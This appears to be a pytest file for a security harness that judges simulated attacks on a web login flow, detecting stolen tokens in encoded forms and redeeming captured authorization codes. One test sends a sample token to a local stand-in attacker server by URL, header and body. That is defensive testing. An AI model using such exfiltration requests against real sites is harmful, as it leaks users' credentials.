"""The judge of the attacks finds what was stolen, in any form, and redeems the codes that can be redeemed."""

import base64
import importlib
import json
import re
import urllib.request
from pathlib import Path
from types import SimpleNamespace
from urllib.error import HTTPError
from urllib.parse import quote, urlsplit

import pytest

from builder.compile.engine import boot
from builder.dev import idp
from tests.attacks import subjects, table
from tests.attacks.evil import running_evil
from tests.attacks.harness import LIBRARY, Scene
from tests.dev.visitor import CALLBACK, SITE, Login, Visitor, redeem, sign_in
from tests.waiting import LIMIT

pytestmark = pytest.mark.full("the tests' own tools")
ATTACKS = sorted(path.stem for path in Path(__file__).parent.glob("[a-z]*_*.py") if path.stem[:5] != "test_")
NO_SCRIPTS = {"FRAME", "MORE", "OPS", "PAGE", "PYTHON", "REMAINS", "SANDBOX", "WAYS", "WISH"}
TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZGEtbG92ZWxhY2UifQ.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"


@pytest.fixture(scope="module")
def provider():
    with idp.running(clients=[idp.Client("site", (CALLBACK,))]) as running:
        yield running.provider


@pytest.fixture(scope="module")
def evil():
    with running_evil() as collector:
        yield collector


@pytest.fixture
def scene(provider, evil):
    """An attack whose subject has issued one token."""
    evil.clear()
    provider.events[:] = [{"event": "token.answer", "access_token": TOKEN, "time": 0}]
    subject = SimpleNamespace(
        url=SITE, start="/", provider=provider, client="site", callback=CALLBACK, apis={}
    )
    return Scene(subject, None, evil)


def test_nothing_is_nothing(scene):
    scene.taken.append({"claims": {"sub": "ada-lovelace"}, "header": TOKEN.partition(".")[0]})
    assert scene.outcome().stolen == ()


@pytest.mark.parametrize(
    "form",
    [
        TOKEN,
        TOKEN.split(".")[1],
        TOKEN[: len(TOKEN) // 2],
        base64.b64encode(f"xy{TOKEN}z".encode()).decode(),
        TOKEN.encode().hex(),
        f"%22{quote(quote(TOKEN))}%22",
    ],
)
def test_a_token_that_a_script_returned_is_found_in_every_form(scene, form):
    scene.taken.append(["a", {"b": form}])
    assert scene.outcome().stolen


@pytest.mark.parametrize("way", ["url", "header", "body"])
def test_a_token_that_reached_the_attackers_server_is_found(scene, evil, way):
    url = f"{evil.url}/x" + (f"?t={quote(TOKEN)}" if way == "url" else "")
    headers = {"X-Loot": TOKEN} if way == "header" else {}
    body = json.dumps({"loot": TOKEN}).encode() if way == "body" else None
    urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=LIMIT).close()
    assert evil.wait("/x")
    assert scene.outcome().stolen == ("access_token (whole)",)


def test_a_run_in_which_nothing_was_issued_proves_nothing(scene, provider):
    provider.events.clear()
    with pytest.raises(AssertionError, match="nothing to steal"):
        scene.outcome()


def a_code(provider, scene, login):
    """Return a code for a request with that verifier.

    After that, the token is no longer the only secret in the events.
    """
    answer = sign_in(Visitor(urlsplit(provider.issuer).port), provider.issuer, login).answer
    return answer["code"]


def test_a_code_of_the_attackers_own_request_is_redeemed(scene, provider):
    scene.taken.append(f"?code={a_code(provider, scene, Login(scene.verifier))}&state=x")
    assert scene.outcome().stolen == ("code (redeemed)",)


def test_a_code_whose_verifier_is_in_the_loot_is_redeemed(scene, provider):
    login = Login()
    code = a_code(provider, scene, login)
    scene.taken += [f"?code={code}", {"decrypted": f'{{"verifier":"{login.verifier}"}}'}, "x" * 50]
    assert scene.outcome().stolen == ("code (redeemed)",)


def test_a_code_without_its_verifier_is_worthless(scene, provider):
    scene.taken.append(f"?code={a_code(provider, scene, Login())}")
    assert scene.outcome().stolen == ()


def test_a_code_that_is_spent_is_worthless(scene, provider):
    login = Login(scene.verifier)
    visitor = Visitor(urlsplit(provider.issuer).port)
    code = a_code(provider, scene, login)
    assert redeem(visitor, provider.issuer, login, code).status == 200
    scene.taken.append(f"?code={code}")
    assert scene.outcome().stolen == ()


def outcome(attack, subject, stolen, remains=""):
    cell = {
        "attack": attack,
        "file": attack,
        "subject": subject,
        "lane": "chromium",
        "stolen": stolen,
        "remains": remains,
    }
    return SimpleNamespace(user_properties=[(table.PROPERTY, cell)])


def test_the_table_says_what_each_attack_took():
    reports = table.Reports()
    for each in (
        outcome(
            "fetch replaced", "page-held", ["id_token (whole)", "id_token (hex)", "access_token (whole)"]
        ),
        outcome("fetch replaced", "ours", [], "reads what the page shows"),
        outcome("twice", "ours", ["code (redeemed)"]),
        outcome("twice", "ours", []),
    ):
        reports.pytest_runtest_logreport(each)
    lines = [" ".join(line.split()) for line in table.lines(reports.cells, reports.remains)]
    assert lines == [
        "page-held, chromium ours, chromium",
        "fetch replaced STOLEN (access_token, id_token) nothing",
        "twice - STOLEN (code)",
        "page-held, chromium: 1 of 1 attacks took something",
        "ours, chromium: 1 of 2 attacks took something",
        "what remains possible to a script in the page:",
        "reads what the page shows (fetch replaced)",
    ]


def test_a_table_without_rows_says_so():
    assert table.lines({}, {}) == ["none ran"]


def test_an_attack_that_won_something_else_than_a_token_is_told(scene):
    scene.won.append("session (fixated)")
    assert scene.outcome().stolen == ("session (fixated)",)


@pytest.mark.parametrize("name", ATTACKS)
def test_every_script_of_an_attack_is_javascript(name):
    """And each attack states for both designs what it is expected to take."""
    module = importlib.import_module(f"tests.attacks.{name}")
    engine = boot()
    for constant, text in vars(module).items():
        if isinstance(text, str) and constant.isupper() and constant not in NO_SCRIPTS:
            text = text.replace("%s ?", "true ?")
            whole = text if re.match(r"(async )?\(\w*\) =>", text) else f"async () => {{ {text} }}"
            engine.eval(f"(() => {{ const script = {whole}; {LIBRARY}; }})")
    assert module.__doc__ and hasattr(module, "test_ours"), name


@pytest.fixture(scope="module")
def ours():
    with subjects.ours(limit=100) as subject:
        yield subject


def get(url, cookie=""):
    """Return (status, text, policy) of a response."""
    try:
        answer = urllib.request.urlopen(
            urllib.request.Request(url, headers={"Cookie": cookie}), timeout=LIMIT
        )
    except HTTPError as error:
        answer = error
    with answer:
        return answer.status, answer.read().decode(), answer.headers["Content-Security-Policy"]


def test_an_injected_script_comes_first_while_its_block_lasts(ours):
    page = f"{ours.url}/invoices/"
    plain = get(page)
    with ours.inject("known()"):
        status, html, policy = get(page)
        assert (status, policy) == (200, plain[2])
        assert re.search(r"<script[^>]*>", html)[0] == f'<script src="/{subjects.INJECTED}">'
        assert get(f"{ours.url}/{subjects.INJECTED}")[:2] == (200, "known()")
        assert re.search(r"script-src ('sha256-[^']+');", get(ours.callback)[2]), "it cannot run there"
    assert get(page) == plain
    assert ours.requests()[0] == "/invoices/"


def test_a_host_with_a_limit_refuses_large_cookies_with_the_headers_of_the_site(ours):
    status, _, policy = get(f"{ours.url}/about/", f"a={'x' * 200}")
    assert (status, policy) == (431, get(f"{ours.url}/about/")[2])
    assert get(f"{ours.url}/about/", "a=x")[0] == 200
